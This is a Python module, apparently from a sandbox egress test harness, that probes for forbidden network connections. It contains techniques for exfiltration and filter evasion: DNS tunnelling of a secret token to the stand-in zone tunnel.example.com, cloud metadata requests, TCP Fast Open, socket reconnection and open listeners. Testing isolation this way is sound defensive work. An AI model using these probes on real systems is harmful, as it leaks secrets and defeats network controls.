"""Connections that a server should not have: to where, and by which way around."""

import contextlib
import ctypes
import select
import socket
import struct
from functools import partial
from typing import Any

from .attempt import Facts, any_of, results_of
from .kernel import libc, text

_WAIT_S = 1.5


def _request(facts: Facts) -> bytes:
    return f"GET /latest/meta-data HTTP/1.0\r\nHost: x\r\nX-Token: {facts['token']}\r\n\r\n".encode()


def talk(connection: socket.socket, facts: Facts) -> str:
    """Send the request, and return the beginning of the answer."""
    connection.settimeout(_WAIT_S)
    connection.sendall(_request(facts))
    return text(connection.recv(1000))


def _family(host: str) -> socket.AddressFamily:
    return socket.AF_INET6 if ":" in host else socket.AF_INET


def _connected(address: Any, facts: Facts, family: int) -> str:
    with socket.socket(family, socket.SOCK_STREAM) as connection:
        connection.settimeout(_WAIT_S)
        connection.connect(address)
        return talk(connection, facts)


def tcp(facts: Facts) -> str:
    """Every address that is given, one after the other."""
    return results_of(partial(_connected, (host, facts["port"]), facts, _family(host)) for host in facts["hosts"])


def by_name(facts: Facts) -> str:
    """What the name means to getaddrinfo, several times over: every answer is tried."""

    def once() -> str:
        meant = socket.getaddrinfo(facts["name"], facts["port"], type=socket.SOCK_STREAM)
        return results_of(partial(_connected, address, facts, family) for family, *_, address in meant)

    return results_of([once] * facts.get("times", 1))


def udp(facts: Facts) -> str:
    """By sendto, and by connect and send."""

    def sent(host: str, way: str) -> str:
        with socket.socket(_family(host), socket.SOCK_DGRAM) as connection:
            if way == "sendto":
                connection.sendto(facts["token"].encode(), (host, facts["port"]))
            else:
                connection.connect((host, facts["port"]))
                connection.send(facts["token"].encode())
        return f"sent by {way}"

    return results_of(partial(sent, host, way) for host in facts["hosts"] for way in ("sendto", "connect"))


def fast_open(facts: Facts) -> str:
    """sendto and sendmsg with MSG_FASTOPEN, and TCP_FASTOPEN_CONNECT: connections without connect."""
    done = []
    address = (facts["hosts"][0], facts["port"])
    for way in ("sendto", "sendmsg", "option"):
        with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_STREAM) as connection:
            connection.settimeout(_WAIT_S)
            if way == "sendto":
                connection.sendto(_request(facts), 0x2000_0000, address)
            elif way == "sendmsg":
                connection.sendmsg([_request(facts)], [], 0x2000_0000, address)
            else:
                connection.setsockopt(socket.IPPROTO_TCP, 30, 1)
                connection.connect(address)
                connection.send(_request(facts))
            connection.recv(100)
            done.append(way)
    return any_of(done, "no way of three")


def reconnected(facts: Facts) -> str:
    """One socket: connected to a public host, let go with AF_UNSPEC, connected to another."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as connection:
        connection.settimeout(_WAIT_S)
        with contextlib.suppress(OSError):
            connection.connect((facts["hosts"][0], facts["port"]))
            libc.connect(connection.fileno(), ctypes.create_string_buffer(bytes(16), 16), 16)
        connection.connect((facts["hosts"][1], facts["port"]))
        return talk(connection, facts)


def tunnel(facts: Facts) -> str:
    """A secret in a name, and the answer in another: whoever owns the zone reads and writes."""
    word = facts["token"].replace("_", "-")
    with contextlib.suppress(OSError):
        socket.getaddrinfo(f"{word}.tunnel.example.com", 80)
    return "asked"


def tunnel_back(facts: Facts) -> str:
    """TXT records by a connection to a name server, as a tunnel does for its way back."""
    query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    for label in f"{facts['token']}.tunnel.example.com".split("."):
        query += bytes([len(label)]) + label.encode()
    query += b"\x00\x00\x10\x00\x01"
    found = []
    for host in facts["hosts"]:
        with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
            connection.settimeout(_WAIT_S)
            connection.sendto(query, (host, 53))
            found.append(text(connection.recv(1000)))
        with contextlib.suppress(OSError), socket.create_connection((host, 53), _WAIT_S) as stream:
            stream.sendall(struct.pack(">H", len(query)) + query)
            found.append(text(stream.recv(1000)))
    return any_of(found, "no name server answered", "\n")


def listen(facts: Facts) -> str:
    """On all addresses, for others to connect to; the harness tries."""
    done = []
    for family, host in ((socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::"), (socket.AF_INET, "127.0.0.1")):
        with contextlib.suppress(OSError):
            listener = socket.socket(family, socket.SOCK_STREAM)
            if family == socket.AF_INET6:
                listener.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
            listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            listener.bind((host, facts["port"]))
            listener.listen()
            listener.settimeout(1.5)
            done.append(listener)
    # Without bind the kernel takes a port by itself.
    with contextlib.suppress(OSError):
        unbound = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        unbound.listen()
        done.append(unbound)
    if not done:
        raise PermissionError("no address can be listened on")
    ready = select.select(done, [], [], 1.5)[0]
    for listener in ready:
        connection, _ = listener.accept()
        connection.sendall(facts["token"].encode())
        connection.close()
    return f"listens: {', '.join(str(each.getsockname()) for each in done)}"
